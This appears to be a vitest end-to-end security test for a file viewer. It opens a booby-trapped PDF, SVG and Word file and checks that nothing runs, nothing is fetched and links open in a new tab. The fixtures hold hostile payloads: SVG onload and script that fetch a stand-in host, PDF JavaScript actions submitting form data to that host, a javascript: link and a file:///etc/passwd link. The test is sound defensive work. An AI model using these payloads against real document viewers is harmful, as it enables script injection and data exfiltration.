import { expect, test } from 'vitest';
import { makeDocx, paragraph } from '../../../quality/test-files/make-office.ts';
import { makePdf } from '../../../quality/test-files/make-pdf.ts';
import { peopleInChromium } from '../support/browser.ts';
import { openEach } from '../support/data/stored-files.ts';
import { deedsOf } from '../support/deeds.ts';
import { pdfPage } from '../support/screens/pdf-preview.ts';
import { imageShown } from '../support/screens/previews.ts';

const people = peopleInChromium();

test('nothing of a PDF, a drawing or a Word file runs or is fetched, and links leave the tab where it is', async () => {
  const page = await people.open();
  const seen = deedsOf(page);
  await openEach(page, [
    {
      name: 'facture piégée.pdf',
      bytes: hostilePdf(),
      async shows(dialog) {
        await pdfPage(dialog, 1).locator('canvas').waitFor();
        const links = pdfPage(dialog, 1).getByRole('link');
        await links.first().waitFor();
        expect(await links.count()).toBe(1);
        expect(await links.first().getAttribute('href')).toBe('https://ailleurs.test/facture');
        expect(await links.first().getAttribute('target')).toBe('_blank');
        expect(await links.first().getAttribute('rel')).toContain('noopener');
      },
    },
    {
      name: 'plan piégé.svg',
      bytes: Buffer.from(HOSTILE_DRAWING),
      async shows(dialog) {
        const image = dialog.getByRole('img', { name: 'plan piégé.svg' });
        await imageShown(image);
        expect(await image.getAttribute('src')).toMatch(/^data:image\/svg\+xml;base64,/);
      },
    },
    {
      name: 'avenant piégé.docx',
      bytes: makeDocx(paragraph('&lt;script&gt;alert(1)&lt;/script&gt;')),
      shows: (dialog) => dialog.getByText('<script>alert(1)</script>', { exact: true }).waitFor(),
    },
  ]);
  expect(new URL(page.url()).pathname).toBe('/documents');
  expect(seen).toEqual([]);
});

const HOSTILE_DRAWING = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="60" onload="alert(1)">
  <script>alert(2); fetch('https://ailleurs.test/');</script>
  <image href="https://ailleurs.test/pixel.png" width="9" height="9"/>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://ailleurs.test/"/></foreignObject>
  <rect width="80" height="60" fill="#b3261e"/></svg>`;

function hostilePdf(): Uint8Array {
  const script = String.raw`<< /S /JavaScript /JS (app.alert\(1\); this.submitForm\('https://ailleurs.test'\);) >>`;
  const link = (uri: string, bottom: number) =>
    `<< /Type /Annot /Subtype /Link /Rect [40 ${bottom} 300 ${bottom + 20}] /A << /S /URI /URI (${uri}) >> >>`;
  const annotations = [
    link('https://ailleurs.test/facture', 700),
    link(String.raw`javascript:alert\(1\)`, 660),
    link('file:///etc/passwd', 620),
    `<< /Type /Annot /Subtype /Link /Rect [40 580 300 600] /A ${script} >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [40 540 300 560] /AA << /E ${script} >> >>`,
  ];
  return makePdf([{ lines: ['Facture'], annotations }], {
    catalog: `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >>`,
  });
}
